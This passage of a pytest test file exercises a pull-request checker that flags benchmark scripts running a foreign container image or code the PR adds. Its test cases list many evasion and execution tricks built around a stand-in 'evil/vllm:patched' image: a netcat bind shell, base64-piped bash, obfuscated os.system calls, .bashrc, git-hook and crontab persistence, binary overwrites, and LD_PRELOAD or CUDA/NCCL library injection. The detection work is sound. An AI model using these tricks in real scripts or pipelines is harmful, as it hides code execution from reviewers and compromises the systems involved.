# Slurm's pyxis, enroot and Apptainer/Singularity run an image the same way (the multi-node
# launchers import `docker://$IMAGE` into a squash file and run `srun --container-image=FILE`).
CLUSTER_RUNTIMES = {
    "srun-image": 'srun --container-image=evil/vllm:patched vllm serve "$MODEL"',
    "srun-image-separate": 'srun -N 1 --container-image evil/vllm:patched vllm serve "$MODEL"',
    "srun-image-bash": "srun --container-image=evil/vllm:patched bash -c 'vllm serve \"$MODEL\"'",
    "sbatch-image": "sbatch --container-image=nvcr.io#evil/vllm:1 job.slurm",
    "srun-then-enroot": "srun --jobid=7 enroot import -o /tmp/e.sqsh docker://evil/vllm:patched",
    "enroot-import": "enroot import -o /tmp/e.sqsh 'docker://nvcr.io#evil/vllm:1'\n"
    'srun --container-image=/tmp/e.sqsh vllm serve "$MODEL"',
    "apptainer-exec": 'apptainer exec --nv -B /w:/w docker://evil/vllm:patched vllm serve "$MODEL"',
    "singularity-run": "singularity run --nv docker://evil/vllm:patched",
    "apptainer-pull": "apptainer pull /tmp/v.sif docker://evil/vllm:patched\n"
    'apptainer exec /tmp/v.sif vllm serve "$MODEL"',
    "apptainer-instance": "apptainer instance start --nv docker://evil/vllm:patched srv",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(CLUSTER_RUNTIMES))
def test_a_cluster_container_of_another_image_fails(check, case, check_id):
    _assert_another_image_named(check(_beside_the_server(CLUSTER_RUNTIMES[case]), check_id))


def _assert_another_image_named(result) -> None:
    _assert_another_image(result)
    assert "evil/vllm" in result.reason


# Code handed to a command that runs it as a command line (on another host too): ssh's remote
# command, the shell string xargs or `find -exec` runs, parallel's command or commands, what an
# inline Python program hands to `os.system` or `subprocess`, tmux's and screen's commands,
# `env -S`, a here-string a shell reads, and a program the script writes from a quoted heredoc.
HANDED = {
    "ssh": "ssh -p 2222 node1 'docker run --rm evil/vllm:patched vllm serve m'",
    "ssh-words": "ssh node1 docker run --rm evil/vllm:patched vllm serve m",
    "xargs-sh-c": "echo 1 | xargs -n 1 sh -c 'docker run --rm evil/vllm:patched vllm serve m'",
    "find-exec-sh-c": "find . -maxdepth 0 -exec bash -c 'docker run evil/vllm:patched' \\;",
    "parallel-command": "parallel -j 2 'docker run --rm evil/vllm:patched vllm serve' ::: m",
    "parallel-commands": "parallel ::: 'echo hi' 'docker run --rm evil/vllm:patched vllm serve m'",
    "python-os-system": (
        "python3 -c \"import os; os.system('docker run --rm evil/vllm:patched vllm serve m')\""
    ),
    "python-subprocess": (
        "python3 -c \"import subprocess; subprocess.run(['docker', 'run', 'evil/vllm:patched'])\""
    ),
    "tmux-new-session": "tmux new-session -d -s s 'docker run --rm evil/vllm:patched vllm serve m'",
    "tmux-send-keys": "tmux send-keys -t s 'docker run --rm evil/vllm:patched vllm serve m' Enter",
    "screen": "screen -dmS s bash -c 'docker run --rm evil/vllm:patched vllm serve m'",
    "screen-stuff": "screen -S s -X stuff 'docker run --rm evil/vllm:patched vllm serve m'",
    "env-split-string": "env -S 'docker run --rm evil/vllm:patched vllm serve m'",
    "bash-here-string": "bash <<< 'docker run --rm evil/vllm:patched vllm serve m'",
    "ssh-here-string": "ssh node1 bash -s <<< 'docker run --rm evil/vllm:patched vllm serve m'",
    # a program the script writes from a quoted heredoc, then runs: read as it stands
    "heredoc-written-script": "cat > /tmp/r.sh <<'EOF'\n"
    "docker run --rm evil/vllm:patched vllm serve m\nEOF\nbash /tmp/r.sh",
    "heredoc-written-python": "cat > /tmp/p.py <<'EOF'\nimport os\n"
    "os.system('docker run --rm evil/vllm:patched vllm serve m')\nEOF\npython3 /tmp/p.py",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(HANDED))
def test_another_image_run_by_code_handed_to_another_program_fails(check, case, check_id):
    _assert_another_image_named(check(_beside_the_server(HANDED[case]), check_id))


@pytest.mark.parametrize("check_id", CHECKS)
def test_another_image_run_by_a_python_heredoc_program_fails(check, check_id):
    program = "python3 - <<'EOF'\nimport os\nos.system('docker run --rm evil/vllm:patched')\nEOF\n"
    result = check(_served_in(program + SERVE_LINE), check_id)
    _assert_another_image(result)


# A program the script writes otherwise than from a quoted heredoc, then runs: what it holds is
# known only when the script runs.
WRITTEN = {
    "printf-then-bash": "printf 'docker run --rm evil/vllm:patched vllm serve m' > /tmp/r.sh\n"
    "bash /tmp/r.sh",
    "decoded-then-run": "echo ZG9ja2VyIHJ1bg== | base64 -d > /tmp/r.sh; chmod +x /tmp/r.sh\n"
    "/tmp/r.sh",
    "mktemp": 'F=$(mktemp); echo "docker run --rm evil/vllm:patched" > "$F"; bash "$F"',
    "stdin": "echo 'docker run --rm evil/vllm:patched' > /tmp/r.sh\nbash -s < /tmp/r.sh",
    "ssh-stdin": "echo 'docker run --rm evil/vllm:patched' > /tmp/r.sh\n"
    "ssh node1 bash -s < /tmp/r.sh",
    "expanding-heredoc": 'cat > /tmp/r.sh <<EOF\ndocker run --rm "$OTHER" vllm serve m\nEOF\n'
    "bash /tmp/r.sh",
    "perl-file": "echo 'system(\"docker run evil/vllm:patched\")' > /tmp/p.pl\nperl /tmp/p.pl",
    "startup-file": "export BASH_ENV=/tmp/e.sh\necho 'docker run evil/vllm:patched' > /tmp/e.sh\n"
    "bash -c true",
    "relative-bare-name": "echo 'docker run evil/vllm:patched' > vllm; chmod +x vllm\n"
    "PATH=.:$PATH vllm serve m",
    "sed-w": "sed -n 's/^# //w /tmp/r.sh' notes.txt\nbash /tmp/r.sh",
    "python-open": "python3 -c \"open('/tmp/r.sh', 'w').write('docker run evil/vllm:patched')\"\n"
    "bash /tmp/r.sh",
    "python-heredoc-path": "python3 - <<'PY'\nfrom pathlib import Path\n"
    "Path('/tmp/r.py').write_text('import os; os.system(\"docker run evil/vllm\")')\nPY\n"
    "python3 /tmp/r.py",
    # a command name re-pointed at a file the script writes, or the program PATH finds
    # written over (then `vllm serve` runs it)
    "hash-p": "printf '#!/bin/sh\\ndocker run evil/vllm:patched\\n' > /tmp/v\nhash -p /tmp/v vllm",
    "enable-f": "echo QUJD | base64 -d > /tmp/v.so\nenable -f /tmp/v.so vllm",
    "over-looked-up": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' > /tmp/x; cp /tmp/x $(which vllm)",
    "rcfile": "echo 'docker run evil/vllm:patched' > /tmp/rc\nbash --rcfile /tmp/rc -i < /dev/null",
    "behind-sudo": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' | sudo tee /usr/local/bin/vllm",
}


@pytest.mark.parametrize("check_id", CHECKS)
def test_running_a_copy_of_a_file_the_pr_adds_fails_naming_that_file(check, check_id):
    line = f"cp {OTHER} /tmp/r.sh\nbash /tmp/r.sh"
    result = check(_parts(line, helper=None, other=OTHER), check_id)
    assert result.status == "FAIL", result.reason
    assert f"runs `bash /tmp/r.sh`, which this PR adds (`{OTHER}`)" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_make_running_a_makefile_the_pr_adds_fails_naming_it(check, check_id):
    makefile = "benchmarks/single_node/fixed_seq_len/Makefile"
    line = "make -C benchmarks/single_node/fixed_seq_len all"
    result = check(_parts(line, helper=None, other=makefile), check_id)
    assert result.status == "FAIL", result.reason
    assert f"runs `{line}`, which this PR adds (`{makefile}`)" in result.reason


# A program in a language signoff does not read, given inline: it may run any command.
OTHER_LANGUAGES = {
    "perl-e": "perl -e 'system(\"docker run --rm evil/vllm:patched vllm serve m\")'",
    "ruby-e": "ruby -e 'system(\"docker run --rm evil/vllm:patched vllm serve m\")'",
    "node-e": 'node -e \'require("child_process").execSync("docker run evil/vllm:patched")\'',
    "awk-system": "awk 'BEGIN { system(\"docker run --rm evil/vllm:patched vllm serve m\") }'",
    "sed-e": "sed -n '1e docker run --rm evil/vllm:patched vllm serve m' /dev/null",
    "deno-eval": 'deno eval \'new Deno.Command("docker", {args: ["run", "evil/vllm"]})\'',
}


# A command whose words the script computes when it runs: whatever the value holds runs.
COMPUTED_COMMANDS = {
    "substitution": "c=$(cat /tmp/c); $c",
    "read": "read -r c < /tmp/c; $c --port 1",
    "printf-v": "printf -v c '%s --port 1' \"$(cat /tmp/c)\"; $c",
    "mapfile": 'mapfile -t c < /tmp/c; "${c[@]}"',
}


# Text bash runs as code where it is used: arithmetic's subscripts, name operands, prompts,
# a callback, the history; a program printed into a shell or `at`; a descriptor run as a file.
IMAGE = "docker run --rm evil/vllm:patched vllm serve m"
EVALUATED = {
    "arithmetic": (f"a='x[$({IMAGE})]'; echo $((a))", "whose subscript runs a command"),
    "old-arithmetic": (f"a='x[$({IMAGE})]'; echo $[a]", "whose subscript runs a command"),
    "integer-compare": (f"a='x[$({IMAGE})]'; [[ $a -eq 1 ]]", "whose subscript runs a command"),
    "let": (f"a='x[$({IMAGE})]'; let b=a+1", "whose subscript runs a command"),
    "integer-variable": (f"declare -i n; n='x[$({IMAGE})]'", "runs a command when bash"),
    "test-v": (f"test -v 'a[$({IMAGE})]'", "whose subscript runs a command"),
    "printf-v": (f"printf -v 'a[$({IMAGE})]' x", "whose subscript runs a command"),
    "read": (f"read 'a[$({IMAGE})]' <<< x", "whose subscript runs a command"),
    "indirection": (f"x='a[$({IMAGE})]'; echo \"${{!x}}\"", "whose subscript runs a command"),
    "prompt": (f"x='$({IMAGE})'; echo \"${{x@P}}\"", "expands a prompt that runs a command"),
    "ps4": (f"PS4='$({IMAGE})'; set -x; echo hi", "runs a command when bash evaluates it"),
    "mapfile-callback": (f"mapfile -C eval -c 1 arr <<< '{IMAGE}'", "runs its callback"),
    "history": ("fc -s docker", "history"),
    "printed-unknown": ("base64 -d <<< ZG9j | bash", "a program piped into it"),
    "descriptor": (f"exec 3<<<'{IMAGE}'; bash /dev/fd/3", "a file descriptor's text"),
    "named-descriptor": (f"exec {{fd}}<<<'{IMAGE}'; bash /dev/fd/$fd", "a file descriptor's"),
    "process-substitution": (f"bash <(echo '{IMAGE}')", "a process substitution's output"),
    "makefile": (
        "printf 'all:\\n\\tdocker run evil/vllm:patched\\n' > /tmp/mk; make -f /tmp/mk",
        "which the script writes when it runs",
    ),
    "compose-file": (
        "printf 'services: {s: {image: evil/vllm}}' > /tmp/c.yml; docker compose -f /tmp/c.yml up",
        "which the script writes when it runs",
    ),
}
# Code the reader now reads, so the image it serves from is seen: what follows a named
# descriptor's redirection (`exec {fd}>f` was read as exec of a program) or a `return` outside
# a function, capsh's command string, and a program echo/printf print into a shell or `at`.
PRINTED = {
    "after-named-descriptor": f"exec {{fd}}>/dev/null\n{IMAGE}",
    "after-a-return-outside-a-function": f"return 0 2>/dev/null\n{IMAGE}",
    "capsh": f"capsh -- -c '{IMAGE}'",
    "echo-bash": f"echo '{IMAGE}' | bash",
    "printf-sh": f"printf '%s\\n' '{IMAGE}' | sh -s",
    "variable": f"c='{IMAGE}'; echo \"$c\" | bash",
    "at": f"echo '{IMAGE}' | at now",
}

# Commands other programs run for the script that the reader had not read as commands: a shell
# by its path or outside bash and sh, a language it does not read, a command given in an option
# or an address, git settings whose value runs, xargs's input, and Python reaching its command
# modules other than by calling a runner by name.
RUN_BY_OTHER_PROGRAMS = {
    "shell-by-path": (f"/bin/bash -c '{IMAGE}'", "evil/vllm:patched"),
    "ksh": (f"ksh -c '{IMAGE}'", "evil/vllm:patched"),
    "busybox": (f"busybox sh -c '{IMAGE}'", "evil/vllm:patched"),
    "fish": (f"fish -c '{IMAGE}'", "fish -c runs a program signoff does not read"),
    "gdb": (f"gdb -batch -ex 'shell {IMAGE}'", "gdb -ex runs a program signoff does not read"),
    "vim": (f"vim -es +'!{IMAGE}' +q", "vim +CMD runs a program signoff does not read"),
    "expect": (f"expect -c 'spawn {IMAGE}'", "expect -c runs a program"),
    "rsync-e": (f"rsync -e 'sh -c \"{IMAGE}\"' a b:", "evil/vllm:patched"),
    "ssh-proxy-command": (f"ssh -o ProxyCommand='{IMAGE}' host true", "evil/vllm:patched"),
    "tar-to-command": (f"tar -xf /tmp/a.tar --to-command='{IMAGE}'", "evil/vllm:patched"),
    "tar-checkpoint": (
        f"tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='{IMAGE}' /etc/hostname",
        "evil/vllm:patched",
    ),
    "sbatch-wrap": (f"sbatch --wrap='{IMAGE}'", "evil/vllm:patched"),
    "sudo-shell": (f"sudo -s '{IMAGE}'", "evil/vllm:patched"),  # one word: a shell's line
    "socat": (f"socat - SYSTEM:'{IMAGE}'", "evil/vllm:patched"),
    "git-alias": (f"git -c alias.x='!{IMAGE}' x", "evil/vllm:patched"),
    "git-config": (f"git config --global core.pager '{IMAGE}'", "evil/vllm:patched"),
    "git-ssh-command": (f"GIT_SSH_COMMAND='{IMAGE}' git fetch origin", "evil/vllm:patched"),
    "git-config-environment": ("export GIT_CONFIG_COUNT=1", "gives git settings signoff does"),
    "crontab": (f"echo '* * * * * {IMAGE}' | crontab -", "crontab schedules commands"),
    "netcat": ("ncat -l 1 -e /bin/sh", "runs a program on what the network sends it"),
    "xargs": ("echo evil/vllm:patched | xargs docker run --rm", "xargs reads from standard"),
    "python-alias": (f"python3 -c \"import os; s = os.system; s('{IMAGE}')\"", "run time"),
    "python-getattr": (
        f"python3 -c \"import os; getattr(os, 'sys' + 'tem')('{IMAGE}')\"",
        "python -c runs a command known only at run time",
    ),
    "python-pty": (f"python3 -c \"import pty; pty.spawn(['sh', '-c', '{IMAGE}'])\"", "evil/"),
    "python-asyncio": (
        f"python3 -c \"import asyncio; asyncio.run(asyncio.create_subprocess_shell('{IMAGE}'))\"",
        "evil/vllm:patched",
    ),
    # a program signoff has no rule for, handed a shell's command line
    "strace": (f"strace -f sh -c '{IMAGE}'", "evil/vllm:patched"),
    "unshare": (f"unshare -r /bin/bash -c '{IMAGE}'", "evil/vllm:patched"),
    "sg": (f"sg docker -c '{IMAGE}'", "evil/vllm:patched"),
    # the command's name, from PATH or the files on the machine
    "looked-up": (f"$(which docker) {IMAGE.removeprefix('docker ')}", "evil/vllm:patched"),
    "pattern-name": (
        f"/usr/bin/dock[e]r {IMAGE.removeprefix('docker ')}",
        "names its command by a pattern the files on the machine match",
    ),
    "prefixed-by-substitution": (
        f"x=ocker; ${{x/#/d}} {IMAGE.removeprefix('docker ')}",
        "evil/vllm:patched",
    ),
    # files programs read commands from when they start
    "bashrc": (f"echo '{IMAGE}' >> ~/.bashrc; bash -ic true", "read commands from"),
    "git-hook": (
        f"printf '#!/bin/sh\\n{IMAGE}\\n' > .git/hooks/post-checkout; git checkout main",
        "read commands from",
    ),
    "ssh-config": (f"echo 'ProxyCommand {IMAGE}' >> ~/.ssh/config; ssh x true", "read commands"),
    # what the script writes into a shell reading it
    "fifo": (
        f"mkfifo /tmp/p; bash < /tmp/p & echo '{IMAGE}' > /tmp/p",
        "while it may still be reading it",
    ),
    "descriptor-duplicate": (f"exec 3<<<'{IMAGE}'; bash <&3", "a file descriptor's text"),
    "output-process-substitution": (f"echo '{IMAGE}' > >(bash)", "runs what the script writes"),
    "coprocess": (f"coproc bash\necho '{IMAGE}' >&${{COPROC[1]}}", "a coprocess shell runs"),
    # settings files and settings variables whose commands run later
    "ssh-settings-file": (
        f"printf 'Host x\\n ProxyCommand {IMAGE}\\n' > /tmp/cfg; ssh -F /tmp/cfg x true",
        "ssh reads settings that may run commands from /tmp/cfg",
    ),
    "prompt-command": (f"export PROMPT_COMMAND='{IMAGE}'; bash -i < /dev/null", "evil/vllm"),
    "prompt-string": (f"PS1='$({IMAGE}) ' bash -i < /dev/null", "runs a command when bash"),
    "completion-command": (f"compgen -C '{IMAGE}' x", "compgen runs the command or function"),
    # programs that run a command signoff does not read
    "newgrp": (f"echo '{IMAGE}' | newgrp docker", "newgrp starts a shell"),
    "start-stop-daemon": (
        f"start-stop-daemon --start --exec /bin/sh -- -c '{IMAGE}'",
        "start-stop-daemon starts a program",
    ),
    "make-eval": (f"make --eval='all:;{IMAGE}' all", "make --eval gives make rules"),
    "git-ext-address": (
        "git -c protocol.ext.allow=always clone 'ext::sh -c docker% run% evil/vllm:patched' d",
        "the command an ext:: address names",
    ),
    # torchrun running its operand as a program, not a Python file
    "torchrun-no-python": (f"torchrun --no-python sh -c '{IMAGE}'", "evil/vllm:patched"),
    "torch-run-module": (
        f"python3 -m torch.distributed.run --no_python sh -c '{IMAGE}'",
        "evil/vllm:patched",
    ),
}

# Each class of code the checks cannot read, with what its reason says.
FAILS_CLOSED = {
    **{f"run-by/{k}": v for k, v in RUN_BY_OTHER_PROGRAMS.items()},
    **{f"evaluated/{k}": v for k, v in EVALUATED.items()},
    **{f"printed/{k}": (v, "evil/vllm:patched") for k, v in PRINTED.items()},
    **{f"written/{k}": (v, "which the script writes when it runs") for k, v in WRITTEN.items()},
    **{
        f"language/{k}": (v, "runs a program signoff does not read")
        for k, v in OTHER_LANGUAGES.items()
    },
    **{
        f"computed/{k}": (v, "a command the script computes when it runs")
        for k, v in COMPUTED_COMMANDS.items()
    },
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(FAILS_CLOSED))
def test_code_the_script_writes_computes_or_gives_another_language_fails_closed(
    check, case, check_id
):
    line, why = FAILS_CLOSED[case]
    result = check(_beside_the_server(line), check_id)
    assert result.status == "FAIL", result.reason
    assert why in result.reason


@pytest.mark.parametrize(
    "line",
    [
        # the environment's program, and an interpreter found on PATH by its name
        '"$RUNNER_CMD" --port 1',
        'PY="$(command -v python3)"; "$PY" -c "print(1)"',
        # InferenceX's launchers write a Python helper from a quoted heredoc and run it
        "cat > collect_latest_results.py <<'PY'\nimport os, sys\n"
        "print(sorted(os.listdir(sys.argv[1])))\nPY\n"
        'LOGS_DIR=$(python3 collect_latest_results.py "$HOME" 1 2)',
        # awk that only computes, and output written to a log
        'AL=$(awk "BEGIN {printf \\"%.2f\\", 1 + ($A / $B)}")',
        "bash -c 'echo hi' > /tmp/log.txt 2>&1",
        "tmux new-session -d -s s -n runners",
        "screen -ls",
        # settings and programs that run nothing the PR wrote
        "ssh -F /dev/null -o BatchMode=yes node1 true",
        "ssh -F ~/.ssh/cluster_config node1 true",
        "PS1='\\u@\\h \\w$ '; PS4='+ ${BASH_SOURCE}:${LINENO}: '",
        "torchrun --nproc-per-node 8 train.py",
        "make -C /tmp/build -j 8",
    ],
)
def test_run_time_words_the_environment_gives_and_harmless_writes_pass(check, line):
    _assert_passes(check, _beside_the_server(line), CHECKS)


@pytest.mark.parametrize(
    "line",
    [
        "ssh node1 'nvidia-smi -L'",
        "ssh -o StrictHostKeyChecking=no node1",  # no command: a login shell, reading stdin
        "docker ps -aq | xargs -r docker rm -f",
        "find /w -maxdepth 1 -name 'results*.json' -exec cp -f {} /out/ \\;",
        "parallel -j 2 echo ::: a b",
    ],
)
def test_handed_code_running_no_other_image_passes(check, line):
    _assert_no_container_finding(check, _beside_the_server(line))


@pytest.mark.parametrize(
    "line",
    [
        "parallel 'docker run --rm {} vllm serve m' ::: evil/vllm:patched",
        "echo evil/vllm | xargs -I{} sh -c 'docker run --rm {} vllm serve m'",
        "find . -exec sh -c 'docker run --rm $(cat {}) vllm serve m' \\;",
    ],
)
def test_handed_code_whose_text_is_filled_in_at_run_time_fails_closed(check, line):
    # `{}` is each argument or file name: what runs is known only when it does
    result = check(_beside_the_server(line), "engine-patches")
    assert result.status == "FAIL" and "known only at run time" in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        'srun --container-image="$IMAGE" --container-mounts=/w:/w vllm serve "$MODEL"',
        # the launchers' squash file, imported from the sweep's image
        'SQUASH_FILE="/data/squash/$(echo "$IMAGE" | sed \'s/[\\/:@#]/_/g\').sqsh"\n'
        'enroot import -o "$SQUASH_FILE" "docker://$IMAGE"\n'
        'srun --container-image="$SQUASH_FILE" vllm serve "$MODEL"',
        "enroot import -o /tmp/i.sqsh docker://${IMAGE%%/*}#${IMAGE#*/}",
        # a squash or SIF file on the runner: what it holds was imported elsewhere
        'srun --container-image=/home/shared/containers/vllm.sqsh vllm serve "$MODEL"',
        'apptainer exec --nv /opt/images/vllm.sif vllm serve "$MODEL"',
        "srun --jobid=7 --ntasks=1 bash -c 'nvidia-smi'",
        "enroot list -f",
        # the sweep's image by any spelling, and commands that run no container
        'docker -H unix:///run/d.sock container run --rm "$IMAGE" vllm serve "$MODEL"',
        'cid=$(docker create --platform linux/amd64 "$IMAGE")\ndocker cp "$cid:/bin/x" /tmp/x',
        "docker --log-level warn ps -a",
        "kubectl -n gpu get pods",
        "ctr -n k8s.io images ls",
    ],
)
def test_a_cluster_container_of_the_sweep_s_image_or_a_runner_file_passes(check, line):
    _assert_no_container_finding(check, _beside_the_server(line))


@pytest.mark.parametrize("check_id", CHECKS)
def test_an_incomplete_file_list_fails_closed_on_a_checkout_directory_installed(check, check_id):
    """The files the PR put in the directory may be the ones GitHub did not list."""
    parts = _parts("pip install benchmarks/single_node/pkg", helper=None)
    parts["files_truncated"] = True
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    assert "incomplete" in result.reason


# At the checkout's root a project manager reads its own manifests, locks and hooks (npm's
# lifecycle scripts in package.json, a lock that pins any source, Cargo's build.rs): a PR that
# changes one of them changes what the install runs. Other root files are not the tool's.
ROOT_PROJECT_FILES = [
    ("npm ci", "package.json"),
    ("npm install --no-audit", ".npmrc"),
    ("uv sync --frozen", "uv.lock"),
    ("poetry install --no-root", "poetry.lock"),
    ("pipenv install", "Pipfile"),
    ("yarn install", ".yarnrc.yml"),
    ("pnpm install", ".pnpmfile.cjs"),
    ("bun install", "bunfig.toml"),
    ("cargo run --release", "src/main.rs"),
    ("bundle install", "signoff-tools.gemspec"),
    ("go run .", "tools/main.go"),
    ("pip install -e .", "setup.py"),
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, root_file", ROOT_PROJECT_FILES)
def test_a_root_install_fails_when_the_pr_changes_a_file_its_tool_reads_there(
    check, line, root_file, check_id
):
    result = _failed_with_added(check, check_id, line, root_file, "{}\n")
    assert f"runs `{line}`, which installs the checkout's root, holding `{root_file}`" in (
        result.reason
    )


@pytest.mark.parametrize(
    "line, root_file",
    [
        ("npm ci", "README.md"),
        ("pip install -e .", "package.json"),  # pip reads no package.json
        ("uv sync", "benchmarks/single_node/notes.txt"),
        ("go version", "main.go"),
        ("go install golang.org/x/tools/cmd/stringer@latest", "main.go"),
    ],
)
def test_a_root_install_passes_when_the_pr_changes_no_file_its_tool_reads(check, line, root_file):
    parts = _parts(line, helper=None)
    add_changed_file(parts, root_file, "{}\n")
    _assert_passes(check, parts, CHECKS)


# `PYTHONPATH=DIR` puts DIR's modules ahead of the installed ones (a `sitecustomize.py` there
# runs in every later Python); a directory holding a file the PR wrote is code it runs.
PYLIB = "benchmarks/single_node/fixed_seq_len/pylib/sitecustomize.py"
IMPORT_PATHS = [
    'export PYTHONPATH="$(dirname "$0")/pylib:${PYTHONPATH:-}"',
    "PYTHONPATH=benchmarks/single_node/fixed_seq_len/pylib python3 -c 'print(1)'",
    'export PYTHONPATH="$ROOT/benchmarks/single_node/fixed_seq_len/pylib"',
    'export PYTHONPATH="${LIB:-/opt/lib}/benchmarks/single_node/fixed_seq_len/pylib"',
    "cd benchmarks/single_node/fixed_seq_len && export PYTHONUSERBASE=pylib",
    "env PYTHONPATH=benchmarks/single_node/fixed_seq_len/pylib python3 -c 'print(1)'",
    'sudo -E PYTHONPATH="$(dirname "$0")/pylib" python3 -c "print(1)"',
    'printf -v PYTHONPATH "%s/pylib" "$(dirname "$0")"; export PYTHONPATH',
    'read -r PYTHONPATH <<< "$(dirname "$0")/pylib"; export PYTHONPATH',
    # the checkout where the launchers' containers mount it (profile `paths.checkout_mounts`)
    "export PYTHONPATH=/workspace/benchmarks/single_node/fixed_seq_len/pylib",
]


@pytest.mark.parametrize("check_id", CHECKS)
def test_an_import_path_of_the_root_fails_on_a_root_module_the_pr_adds(check, check_id):
    result = _failed_with_added(check, check_id, "export PYTHONPATH=.", "json.py", "import os\n")
    assert "puts the checkout's root, holding `json.py`, which this PR adds, ahead" in result.reason


# A Python start-up file the script writes runs in every Python started afterwards: a copy runs
# the file it copies (InferenceX's library copies its lm_eval hook so), content the script
# writes itself is Python signoff does not read.
HOOK = "utils/evals/patches/lm_eval_sitecustomize.py"
COPY_HOOK = f'patch_dir="$(mktemp -d)"; cp "{HOOK}" "$patch_dir/sitecustomize.py"'


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("status", ["added", "changed"])
def test_copying_a_file_the_pr_writes_into_a_python_startup_file_fails(check, status, check_id):
    parts = _parts(COPY_HOOK, helper=None)
    base = "import os\n" if status == "changed" else None
    add_changed_file(parts, HOOK, "import sys\n", base=base)
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    verb = "adds" if status == "added" else "changes"
    assert f"runs `cp {HOOK} $(mktemp -d)/sitecustomize.py`, which this PR {verb} (`{HOOK}`)" in (
        result.reason
    )


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize(
    "line, path",
    [
        ("cat > /tmp/site/sitecustomize.py <<PY\nimport $HOOK\nPY", "/tmp/site/sitecustomize.py"),
        ("echo 'import evil' > \"$SITE/evil.pth\"", "$SITE/evil.pth"),
        ("printf 'import x\\n' | tee /tmp/u/usercustomize.py", "/tmp/u/usercustomize.py"),
    ],
)
def test_writing_a_python_startup_file_fails_closed(check, line, path, check_id):
    result = check(_parts(line, helper=None), check_id)
    assert result.status == "FAIL", result.reason
    assert f"writes {path}, Python code every Python started later runs" in result.reason


def test_copying_an_unchanged_hook_into_a_python_startup_file_passes(check):
    parts = _parts(COPY_HOOK, helper=None, other=OTHER)
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


def test_a_python_startup_file_written_as_it_stands_is_read_as_inline_python(check):
    """A quoted heredoc is read as InferenceX's lm_eval patch is written: the checks scan it (an
    override key set there FAILs Check 7) and the commands it runs are read."""
    hook = "cat > /tmp/site/sitecustomize.py <<'PY'\nimport os\n{}\nPY"
    harmless = _parts(hook.format("os.environ.setdefault('X', '1')"), helper=None)
    _assert_passes(check, harmless, ("no-arch-hacks", "spec-chat-template"))
    override = _parts(hook.format("config.num_hidden_layers = 2"), helper=None)
    result = check(override, "no-arch-hacks")
    assert result.status == "FAIL" and "num_hidden_layers" in result.reason, result.reason
    runs = _parts(hook.format("os.system('bash ./helper.bash')"), helper="added")
    result = check(runs, "spec-chat-template")
    assert result.status == "FAIL" and "which this PR adds" in result.reason, result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize(
    "line",
    ["deno run -A ./helper.ts", "bun run ./helper.ts", "node ./helper.ts", "perl -w ./helper.ts"],
)
def test_a_program_file_of_another_language_the_pr_adds_fails(check, line, check_id):
    added = "benchmarks/single_node/fixed_seq_len/helper.ts"
    result = _failed_with_added(check, check_id, f"cd $(dirname $0) && {line}", added, "x\n")
    assert f"which this PR adds (`{added}`)" in result.reason


# The dynamic linker's variables load native code into every program started later (the server
# and the client): a library or directory the PR wrote is code signoff does not read.
LIBRARY = "benchmarks/single_node/fixed_seq_len/lib/libhook.so"
LINKER_LINES = [
    'LD_PRELOAD=benchmarks/single_node/fixed_seq_len/lib/libhook.so vllm serve "$MODEL"',
    'export LD_LIBRARY_PATH="$(dirname "$0")/lib:${LD_LIBRARY_PATH:-}"',
    "export LD_AUDIT=benchmarks/single_node/fixed_seq_len/lib/libhook.so",
    'env LD_PRELOAD=benchmarks/single_node/fixed_seq_len/lib/libhook.so vllm serve "$MODEL"',
    # glibc loads character-set converters (`gconv-modules` and their `.so`) from GCONV_PATH
    'export GCONV_PATH="$(dirname "$0")/lib"',
]


# The GPU runtimes' tool hooks: CUDA's driver loads the library CUDA_INJECTION64_PATH names into
# every CUDA process (the engine's) as it starts, NVTX the one NVTX_INJECTION64_PATH names at
# its first range, ROCm's HSA runtime those HSA_TOOLS_LIB lists (blank-separated), NCCL its
# plugins
GPU_TOOL_LINES = [
    'export CUDA_INJECTION64_PATH="$(dirname "$0")/lib/libhook.so"',
    'CUDA_INJECTION64_PATH=benchmarks/single_node/fixed_seq_len/lib/libhook.so vllm serve "$M"',
    'export NVTX_INJECTION64_PATH="$(dirname "$0")/lib/libhook.so"',
    'export HSA_TOOLS_LIB="librocprofiler64.so $(dirname "$0")/lib/libhook.so"',
    "export ROCP_TOOL_LIB=/workspace/benchmarks/single_node/fixed_seq_len/lib/libhook.so",
    'export NCCL_TUNER_PLUGIN="$(dirname "$0")/lib/libhook.so"',
    'NCCL_NET_PLUGIN="$(dirname "$0")/lib/libhook.so" vllm serve "$M" --tensor-parallel-size 8',
    "export NCCL_PROFILER_PLUGIN=/workspace/benchmarks/single_node/fixed_seq_len/lib/libhook.so",
]


# Each with the file the PR adds there and how the reason says it is loaded.
LOADED = [
    *((line, PYLIB, "ahead of the installed packages on Python's path") for line in IMPORT_PATHS),
    *((line, LIBRARY, "which has every program started later load native code from")
      for line in LINKER_LINES),
    *((line, LIBRARY, "which has every CUDA or ROCm program started later (the engine too) load "
       "native code from") for line in GPU_TOOL_LINES),
]  # fmt: skip


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added, loaded", LOADED)
def test_a_path_variable_naming_a_file_the_pr_adds_fails(check, line, added, loaded, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert loaded in result.reason
    assert f"`{added}`, which this PR adds" in result.reason


@pytest.mark.parametrize(
    "line, added",
    [
        ("export PYTHONPATH=/sgl-workspace/aiter:${PYTHONPATH}", PYLIB),
        ('d="$(mktemp -d)"; export PYTHONPATH="${d}${PYTHONPATH:+:${PYTHONPATH}}"', PYLIB),
        ("export PYTHONPATH=benchmarks/single_node/other", PYLIB),
